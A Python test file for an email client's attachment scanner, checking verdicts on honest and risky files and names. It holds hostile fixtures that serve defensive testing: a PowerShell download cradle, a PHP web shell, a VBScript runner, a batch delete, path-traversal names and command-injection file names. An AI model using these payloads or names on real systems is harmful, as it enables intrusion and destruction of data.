"""Verdicts on attachments: what is seen in names, types and bytes, and what is let be."""

from __future__ import annotations

import struct
import unicodedata
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.mime import samples
from tuimail.mime.examining.archives import UNLISTED
from tuimail.mime.examining.examine import MAX_REASONS, NEW_SENDER, NOT_EXAMINED, OVER_A_LIST, examine, examine_unread
from tuimail.mime.examining.risk import real_type
from tuimail.mime.examining.verdicts import END_OCTETS, Context, Findings, Sample, Verdict

NONE, SUSPICIOUS, DANGEROUS = Verdict.NO_FINDING, Verdict.SUSPICIOUS, Verdict.DANGEROUS
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def is_clean(text: str) -> bool:
    """Whether nothing in it steers a terminal."""
    return not {unicodedata.category(character) for character in text} & {"Cc", "Cf", "Cs", "Zl", "Zp"}


def seen(filename: str, octets: bytes, declared: str = "", context: Context | None = None) -> Findings:
    """What the engine's child comes to."""
    return examine(filename, declared, Sample.of(octets), real_type(octets), context or Context())


HONEST = {
    "text": ("notes.txt", b"Buy milk.\n", "text/plain"),
    "text without a name": ("", b"Buy milk.\n", "text/plain"),
    "calendar": ("lunch.ics", samples.ICS, "text/calendar"),
    "contact": ("ada.vcf", samples.VCF, "text/vcard"),
    "picture": ("photo.png", samples.PNG, "image/png"),
    "photo": ("IMG 0001.JPG", samples.JPEG, "image/jpeg"),
    "pdf": ("report.pdf", samples.PDF, "application/pdf"),
    "pdf that scrolls": ("report.pdf", samples.pdf(b"/OpenAction[1 0 R /Fit]"), "application/pdf"),
    "pdf that is encrypted": ("bill.pdf", samples.pdf(b"/Encrypt 3 0 R"), "application/pdf"),
    "document": ("letter.docx", samples.document(), DOCX),
    "old document": ("letter.doc", samples.ole("WordDocument"), "application/msword"),
    "rich text": ("a.rtf", b"{\\rtf1 Hello}", "application/rtf"),
    "zip": ("photos.zip", samples.zipped({"a/b.png": samples.PNG, "c.txt": b"x"}), "application/zip"),
    "packed zip": ("a.zip", samples.zipped({"a.txt": b"word " * 99}, method=zipfile.ZIP_DEFLATED), "application/zip"),
    "wide zip": ("a.zip", samples.wide_archive(b"a.txt"), "application/zip"),
    "empty zip": ("a.zip", samples.zipped({}), "application/zip"),
    "tar": ("a.tar", samples.tar("a.txt", "b/c.png"), "application/x-tar"),
    "rar": ("a.rar", samples.rar_5(b"a.txt"), "application/vnd.rar"),
    "7z": ("a.7z", samples.seven(b"\x17\x06\0\1"), "application/x-7z-compressed"),
    "empty": ("a.pdf", b"", "application/pdf"),
    "unknown": ("data.xyz", b"\x01\x02\x03\x04", "application/octet-stream"),
    "svg": ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><rect width='3'/></svg>", "image/svg+xml"),
    "text about PowerShell": ("notes.txt", b"Ask Bob about New-Object in PowerShell.\n", "text/plain"),
    "text that begins with MZ": ("a.txt", b"MZ is the mark of Mark Zbikowski.\n" * 4, "text/plain"),
    "text about HTML": ("a.txt", b"Then add a <script> tag to the page.\n", "text/plain"),
    "wide text": ("a.txt", "Grüße aus Köln\n".encode("utf-16"), "text/plain"),
    "wrong declared type": ("photo.png", samples.PNG, "application/pdf"),
    "time in a name": ("Re: report 10:30.pdf", samples.PDF, "application/pdf"),
    "cyrillic name": ("отчёт.pdf", samples.PDF, "application/pdf"),
    "folder named as a program": ("a.zip", samples.zipped({"setup.exe/": b"", "setup.exe/a.txt": b""}), ""),
    "database": ("a.mdb", b"\0\1\0\0Standard Jet DB\0", "application/x-msaccess"),
    "page in UTF-8 with a mark, as text": ("a.txt", b"\xef\xbb\xbfHello\n", "text/plain"),
}

NOTED = {
    "pdf that scrolls": "/OpenAction", "pdf that is encrypted": "is encrypted", "7z": UNLISTED, "empty": "is empty",
    "text without a name": "It has no name.", "wrong declared type": "It was sent as a PDF",
}  # fmt: skip
"""Told, but no finding."""


@pytest.mark.parametrize("case", HONEST)
def test_an_honest_file_has_no_finding(case: str) -> None:
    filename, octets, declared = HONEST[case]
    findings = seen(filename, octets, declared)
    assert findings.verdict is NONE, findings.reasons
    assert len(findings.reasons) == (case in NOTED), findings.reasons
    assert NOTED.get(case, "") in "".join(findings.reasons)


WORSE = {
    # what runs
    "program": (DANGEROUS, "setup.exe", samples.PE, "Windows program"),
    "program by another name": (DANGEROUS, "invoice.pdf", samples.PE, "The name says PDF, the bytes are a Windows"),
    "program without a name": (DANGEROUS, "", samples.PE, "Windows program"),
    "screen saver": (DANGEROUS, "photo.jpg.scr", samples.PE, "two extensions"),
    "linux program": (DANGEROUS, "run.jpg", samples.ELF, "a Linux program"),
    "mac program": (DANGEROUS, "a.pdf", samples.MACH_O, "a macOS program"),
    "mac program for two machines": (DANGEROUS, "a.pdf", samples.MACH_O_FAT, "a macOS program"),
    "java class": (DANGEROUS, "a.pdf", samples.JAVA_CLASS, "a Java program"),
    "jar": (DANGEROUS, "a.jar", samples.zipped({"META-INF/MANIFEST.MF": b"", "A.class": b""}), ".jar can run"),
    "installer": (DANGEROUS, "a.msi", samples.ole(class_id=samples.MSI_CLASS), "Windows program"),
    "shortcut": (DANGEROUS, "a.pdf.lnk", samples.LNK, "a shortcut"),
    "shortcut by another name": (DANGEROUS, "a.txt", samples.LNK, "a shortcut"),
    "address": (DANGEROUS, "a.url", b"[InternetShortcut]\r\nURL=file://h/a.exe\r\n", "shortcut"),
    "starter": (DANGEROUS, "a.desktop", b"[Desktop Entry]\nExec=sh -c id\n", "a shortcut"),
    "help file": (DANGEROUS, "a.chm", b"ITSF\3\0\0\0" + b"\0" * 60, "help file"),
    # scripts
    "shell script": (DANGEROUS, "a.sh", b"#!/bin/sh\nid\n", "a script"),
    "shell script as picture": (DANGEROUS, "a.jpg", b"#!/bin/sh\nid\n", "picture, the bytes are a script"),
    "shell script as text": (SUSPICIOUS, "a.txt", b"#!/bin/sh\nid\n", "The text is a script"),
    "shell script behind a mark": (DANGEROUS, "a.jpg", b"\xef\xbb\xbf#!/bin/sh\nid\n", "a script"),
    "batch": (DANGEROUS, "a.dat", b"@echo off\r\ndel *\r\n", "a script"),
    "jscript": (DANGEROUS, "a.js", b"x=1", ".js can run"),
    "wide vbscript": (
        DANGEROUS, "a.pdf", 'Set s = CreateObject("WScript.Shell")\r\ns.Run WScript.Arguments(0)'.encode("utf-16"),
        "The name says PDF, the bytes are a script",
    ),
    "wide powershell without a mark": (
        DANGEROUS, "a.jpg", "iex (New-Object Net.WebClient).DownloadString('http://x')".encode("utf-16-le"), "a script",
    ),
    "application": (DANGEROUS, "a.dat", b"<html><HTA:APPLICATION id=x></html>", "drives Windows"),
    "php": (DANGEROUS, "a.gif", b"<?php system($_GET[0]);", "a script"),
    # documents
    "macros": (DANGEROUS, "a.docm", samples.document({"word/vbaProject.bin": b"x"}), "vbaProject.bin"),
    "macros by another name": (DANGEROUS, "a.docx", samples.document({"word/vbaProject.bin": b"x"}), "macros"),
    "macro extension only": (SUSPICIOUS, "a.docm", samples.document(), "can hold macros"),
    "excel 4 macros": (DANGEROUS, "a.xlsx", samples.zipped({**samples.OFFICE, "xl/macrosheets/s.xml": b""}), "Excel 4"),
    "embedded object": (SUSPICIOUS, "a.docx", samples.document({"word/embeddings/oleObject1.bin": b""}), "embedded"),
    "document with a program": (DANGEROUS, "a.docx", samples.document({"word/media/a.exe": b""}), "holds a program"),
    "document with controls": (SUSPICIOUS, "a.docx", samples.document({"word/activeX/a.xml": b""}), "ActiveX"),
    "open document with macros": (
        DANGEROUS, "a.odt",
        samples.zipped({"content.xml": b"", "META-INF/manifest.xml": b"", "Basic/a.xml": b""}), "macros (Basic)",
    ),
    "rtf that loads": (DANGEROUS, "a.rtf", b"{\\rtf1{\\*\\template http://x/a}}", "template"),
    "old embedded file": (SUSPICIOUS, "a.doc", samples.ole("\x01Ole10Native"), "embedded file"),
    "old equation": (SUSPICIOUS, "a.doc", samples.ole("Equation Native"), "equation"),
    "old macros": (DANGEROUS, "a.doc", samples.ole("WordDocument", "_VBA_PROJECT"), "macros (VBA)"),
    "old macros, other directory": (DANGEROUS, "a.xls", samples.ole("Workbook", "VBA"), "macros (VBA)"),
    "encrypted document": (SUSPICIOUS, "a.docx", samples.ole("EncryptedPackage"), "encrypted"),
    "onenote": (SUSPICIOUS, "a.one", samples.onenote(samples.PNG), "OneNote"),
    "onenote with a program": (DANGEROUS, "a.one", samples.onenote(samples.PE), "no picture"),
    "rtf object": (SUSPICIOUS, "a.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", "embedded object"),
    "rtf object that acts": (DANGEROUS, "a.doc", b"{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}", "acts when"),
    "pdf that launches": (DANGEROUS, "a.pdf", samples.pdf(b"/OpenAction<</S/Launch>>"), "/Launch"),
    "pdf with a script": (SUSPICIOUS, "a.pdf", samples.pdf(b"/OpenAction<</S/JavaScript/JS(x)>>"), "as soon as"),
    "pdf with a hidden name": (SUSPICIOUS, "a.pdf", samples.pdf(b"/A<</S/J#61vaScript>>"), "/JavaScript"),
    "pdf with files": (SUSPICIOUS, "a.pdf", samples.pdf(b"/Names<</EmbeddedFile 3 0 R>>"), "other files"),
    "page": (SUSPICIOUS, "invoice.html", b"<html><p>Hello</p></html>", "web page"),
    "page with a form": (DANGEROUS, "a.htm", b'<html><input name=p type="password"></html>', "asks for a password"),
    "page that smuggles": (
        DANGEROUS, "a.html", b"<html><script>b=new Blob([atob(x)]);URL.createObjectURL(b)</script></html>", "smuggling",
    ),
    "svg with a script": (DANGEROUS, "a.svg", b"<svg xmlns='x'><script>1</script></svg>", "runs a script"),
    "page that hides": (SUSPICIOUS, "a.html", b"<html><script>eval(x)</script></html>", "hides its own script"),
    "page with a script": (SUSPICIOUS, "a.html", b"<html><script>x</script></html>", "runs a script"),
    "page that leads on": (SUSPICIOUS, "a.html", b"<html><meta http-equiv=refresh content='0;x'></html>", "leads on"),
    "svg with a page": (SUSPICIOUS, "a.svg", b"<svg xmlns='x'><foreignObject/></svg>", "holds a web page"),
    "svg with entities": (SUSPICIOUS, "a.svg", b"<!DOCTYPE svg [<!ENTITY a 'b'>]><svg xmlns='x'/>", "entities"),
    "svg with a handler": (DANGEROUS, "a.svg", b"<svg xmlns='x' onload='x()'/>", "runs a script"),
    # archives
    "zip with a program": (DANGEROUS, "a.zip", samples.zipped({"a/Setup.EXE": b""}), "holds a program: a/Setup.EXE"),
    "zip with a script": (DANGEROUS, "a.zip", samples.zipped({"invoice.js": b""}), "holds a script: invoice.js"),
    "zip of sources": (SUSPICIOUS, "a.zip", samples.zipped({"a.py": b"", "b.sh": b""}), "holds 2 scripts"),
    "zip with a shortcut": (DANGEROUS, "a.zip", samples.zipped({"cv.pdf.lnk": b""}), "cv.pdf.lnk"),
    "zip with macros": (SUSPICIOUS, "a.zip", samples.zipped({"a.xlsm": b""}), "can hold macros"),
    "zip in a zip": (SUSPICIOUS, "a.zip", samples.zipped({"b.zip": samples.zipped({})}), "an archive in itself"),
    "encrypted zip": (SUSPICIOUS, "a.zip", samples.encrypted(samples.zipped({"a.txt": b"x"})), "encrypted"),
    "zip that climbs out": (SUSPICIOUS, "a.zip", samples.zipped({"../../a.txt": b""}), "reaches out"),
    "zip with an absolute path": (
        SUSPICIOUS, "a.zip", samples.archive_of(b"", samples.central_entry(b"/etc/x", packed=0), 1), "absolute path",
    ),
    "zip with a link": (
        SUSPICIOUS, "a.zip",
        samples.archive_of(b"", samples.central_entry(b"x", packed=0, attributes=0o120777 << 16), 1), "another place",
    ),
    "bomb": (SUSPICIOUS, "a.zip", samples.bomb(), "Unpacked it would take 1 GB."),
    "overlap": (SUSPICIOUS, "a.zip", samples.overlapping(), "overlap"),
    "cut zip": (SUSPICIOUS, "a.zip", samples.zipped({"a.txt": b"x" * 99})[:90], "damaged or missing"),
    "two names": (
        SUSPICIOUS, "a.zip", samples.zipped({"a.txt": b"x"}).replace(b"a.txt", b"b.exe", 1), "two names",
    ),
    "tar with a program": (DANGEROUS, "a.tar", samples.tar("x/run.exe"), "run.exe"),
    "rar with a program": (DANGEROUS, "a.rar", samples.rar_5(b"a.scr"), "a.scr"),
    "old rar with a program": (DANGEROUS, "a.rar", samples.rar_4(b"a.scr"), "a.scr"),
    "old rar with a program behind a text": (
        DANGEROUS, "a.rar", samples.rar_4(b"a.txt", b"b.exe", packed=b"packed"), "b.exe",
    ),
    "rar encrypted": (SUSPICIOUS, "a.rar", samples.rar_5(b"a.txt", extra=b"\2\1\0"), "encrypted"),
    "rar with a program behind a text": (DANGEROUS, "a.rar", samples.rar_5(b"a.txt", b"b.exe", packed=b"x"), "b.exe"),
    "old rar with hidden names": (SUSPICIOUS, "a.rar", samples.rar_4(b"a.txt", archive_flags=0x80), "encrypted"),
    "old rar encrypted": (SUSPICIOUS, "a.rar", samples.rar_4(b"a.txt", flags=4), "encrypted"),
    "rar with hidden names": (SUSPICIOUS, "a.rar", samples.RAR_5 + samples.rar_5_block(4, b"\0" * 9), "encrypted"),
    "7z encrypted": (SUSPICIOUS, "a.7z", samples.seven(b"\x17\x06\x24\x06\xf1\x07\x01\x12"), "encrypted"),
    "cabinet with a program": (DANGEROUS, "a.cab", samples.cabinet(b"a.txt", b"b.exe"), "b.exe"),
    "disk image": (SUSPICIOUS, "a.iso", samples.disk(), "disk image"),
    "disk image with a program": (DANGEROUS, "a.img", samples.disk(b"SETUP.EXE;1"), "setup.exe"),
    "disk image with a shortcut": (DANGEROUS, "a.iso", samples.disk("cv.lnk".encode("utf-16-be")), "cv.lnk"),
    "mac disk image by another name": (
        SUSPICIOUS, "a.pdf", b"\1" * 9_000 + (b"koly" + struct.pack(">L", 4)).ljust(512, b"\0"), "the bytes are a disk",
    ),
    "virtual disk by another name": (SUSPICIOUS, "a.pdf", b"\1" * 9_000 + b"conectix".ljust(512, b"\0"), "are a disk"),
    "disk image by another name": (SUSPICIOUS, "a.pdf", samples.disk(), "The name says PDF, the bytes are a disk"),
    # two things at once
    "picture and php": (SUSPICIOUS, "a.jpg", samples.JPEG + b"<?php system('id');", "PHP"),
    "picture and page": (SUSPICIOUS, "a.png", samples.PNG + b"<script>x</script>", "web page"),
    "picture and archive": (DANGEROUS, "a.png", samples.PNG + samples.zipped({"A.class": b""}), "a program: A.class"),
    "picture and harmless archive": (SUSPICIOUS, "a.png", samples.PNG + samples.zipped({"a": b""}), "archive at once"),
    # names
    "hidden direction": (DANGEROUS, "a\u202efdp.exe", samples.PE, "hidden direction"),
    "padding": (DANGEROUS, "invoice.pdf" + " " * 60 + ".exe", b"x", "a run of spaces"),
    "imitation": (SUSPICIOUS, "a.ехе", b"x", "only looks like .exe"),
}


@pytest.mark.parametrize("case", WORSE)
def test_what_is_wrong_with_a_file_is_seen_and_said(case: str) -> None:
    verdict, filename, octets, words = WORSE[case]
    findings = seen(filename, octets)
    assert findings.verdict is verdict, findings.reasons
    assert any(words in reason for reason in findings.reasons), findings.reasons


EVIL_NAMES = {
    "climbing": "../../etc/passwd", "climbing on Windows": "..\\..\\win.ini", "absolute": "/etc/passwd",
    "drive": "C:\\Windows\\a.txt", "share": "\\\\host\\share\\a.txt", "home": "~/.ssh/authorized_keys",
    "address": "file:///etc/passwd", "encoded climbing": "%2e%2e%2fa.txt", "twice encoded": "%252e%252e%252fa.txt",
    "two dots": "..", "one path mark": "a/b.txt", "like a slash": "..\u2215a.txt", "wide slash": "a\uff0fb.txt",
    "like a dot": "a\u2024exe", "NUL": "a.txt\0.exe", "line end": "a\r\nX: y.txt", "escape": "a\x1b[2Jb.txt",
    "bell": "a\x07.txt", "surrogate": "a\udcff.txt", "direction": "a\u202etxt.exe", "isolate": "a\u2067fdp.js",
    "zero width": "inv\u200boice.pdf", "tag letters": "a\U000e0041.pdf", "padding": "a.pdf          .exe",
    "no-break padding": "a.pdf\u00a0\u00a0\u00a0\u00a0.scr", "trailing dots": "a.exe...", "trailing spaces": "a.exe  ",
    "dash": "-rf", "hidden": ".bashrc", "device": "NUL.txt", "stream": "a.txt:b.exe", "default stream": "a.asp::$DATA",
    "class id": "a.txt.{00020C01-0000-0000-C000-000000000046}",
    "command": "$(touch x).txt", "other command": "a;id.txt",
    "long": "a" * 300 + ".txt", "double": "a.pdf.exe", "page in disguise": "a.pdf.html",
    "obeyed": "autorun.inf", "Cyrillic program": "photo.ѕсr",
}  # fmt: skip


@pytest.mark.parametrize("case", EVIL_NAMES)
def test_an_evil_name_is_a_finding_and_never_shown_as_it_is(case: str) -> None:
    findings = seen(EVIL_NAMES[case], b"x")
    assert findings.verdict > NONE
    shown = findings.shown_name
    assert shown.isprintable()
    assert shown not in ("", ".", "..")
    assert not set("/\\\0:") & set(shown)
    assert shown[0] not in ".-~"
    assert shown[-1] not in ". "
    assert len(shown.encode()) <= 216


def test_reasons_come_with_the_worst_first_and_none_twice() -> None:
    findings = seen("../a.pdf   .exe", samples.PE, "image/png")
    assert findings.verdict is DANGEROUS
    assert "Windows program" in findings.reasons[0]
    assert len(set(findings.reasons)) == len(findings.reasons) <= MAX_REASONS
    assert "reaches out" in findings.reasons[-2], "suspicious"
    assert "It was sent as a picture" in findings.reasons[-1], "only worth telling"


def test_a_name_in_an_archive_reaches_no_terminal_as_it_is() -> None:
    findings = seen("a.zip", samples.zipped({"a\x1b[31m\u202etxt.exe": b"", "b\nc.js": b""}))
    assert findings.verdict is DANGEROUS
    assert all(reason.isprintable() for reason in findings.reasons)


def test_who_sent_it_counts_only_beside_something() -> None:
    stranger = Context(first_time_sender=True, from_list=True)
    assert seen("photo.png", samples.PNG, context=stranger).reasons == ()
    assert seen("letter.docx", samples.document(), context=stranger).verdict is SUSPICIOUS
    assert seen("a.7z", samples.seven(b"\x17\x06"), context=stranger).verdict is SUSPICIOUS
    reasons = seen("a.exe", samples.PE, context=stranger).reasons
    assert reasons[-2:] == (NEW_SENDER, OVER_A_LIST)


def test_the_list_of_a_large_archive_is_read_from_its_end() -> None:
    large = samples.zipped({"film.bin": b"\1" * (3 * END_OCTETS), "run.exe": b""})
    sample = Sample.of(large)
    assert not sample.is_whole
    assert len(sample.head) + len(sample.tail) == 2 * END_OCTETS
    findings = examine("a.zip", "", sample, "application/zip", Context())
    assert findings.verdict is DANGEROUS
    assert "run.exe" in findings.reasons[0]


def test_an_archive_with_too_many_files_is_listed_in_part() -> None:
    count = 60_000
    directory = b"".join(samples.central_entry(b"f%05d.txt" % number, packed=0) for number in range(count))
    octets = samples.archive_of(b"PK\x03\x04", directory, count)
    findings = examine("a.zip", "", Sample.of(octets), "application/zip", Context())
    assert findings.verdict is SUSPICIOUS
    assert any("of the 60,000 files in this archive could be listed" in reason for reason in findings.reasons)


def test_what_could_not_be_examined_is_suspicious_and_its_name_still_speaks() -> None:
    assert examine_unread("a.txt", "text/plain", Context()).verdict is SUSPICIOUS
    findings = examine_unread("a.pdf.exe", "", Context())
    assert findings.verdict is DANGEROUS
    assert findings.reasons[0] == NOT_EXAMINED
    assert "two extensions" in " ".join(findings.reasons)


def test_without_libmagic_the_octets_still_speak() -> None:
    for filename, octets, verdict in (
        ("a.pdf", samples.PE, DANGEROUS), ("a.jpg", samples.ELF, DANGEROUS), ("a.pdf", samples.PDF, NONE),
        ("a.png", samples.PNG, NONE), ("a.png", samples.JPEG, NONE), ("a.txt", samples.PNG, SUSPICIOUS),
    ):  # fmt: skip
        assert examine(filename, "", Sample.of(octets), "", Context()).verdict is verdict, filename


_NAMES = st.text(st.characters(blacklist_categories=()), max_size=40) | st.sampled_from(sorted(EVIL_NAMES.values()))
_BYTES = st.binary(max_size=300) | st.sampled_from(
    [octets for _, _, octets, _ in WORSE.values() if len(octets) < 4_000] + [octets for _, octets, _ in HONEST.values()]
)


@given(_NAMES, st.text(max_size=30), _BYTES, st.binary(max_size=8), st.integers(0, 400), st.text(max_size=30))
@settings(max_examples=200, deadline=None)
def test_any_bytes_give_a_verdict(
    filename: str, declared: str, octets: bytes, patch: bytes, at: int, real: str
) -> None:
    octets = octets[:at] + patch + octets[at + len(patch) :]
    findings = examine(filename, declared, Sample.of(octets), real, Context(first_time_sender=True))
    assert isinstance(findings.verdict, Verdict)
    assert all(reason and is_clean(reason) for reason in findings.reasons)
    assert findings.shown_name
    assert is_clean(findings.shown_name)


@given(st.binary(max_size=120), st.binary(max_size=120), st.integers(0, 400))
@settings(max_examples=100, deadline=None)
def test_the_ends_of_a_large_file_give_a_verdict(head: bytes, tail: bytes, more: int) -> None:
    sample = Sample(head, tail, len(head) + len(tail) + more)
    assert isinstance(examine("a.zip", "", sample, "", Context()).verdict, Verdict)
    for offset in range(0, sample.size_octets + 20, 7):
        cut = sample.cut(offset, 9)
        assert cut is None or len(cut) == max(min(9, sample.size_octets - offset), 0)
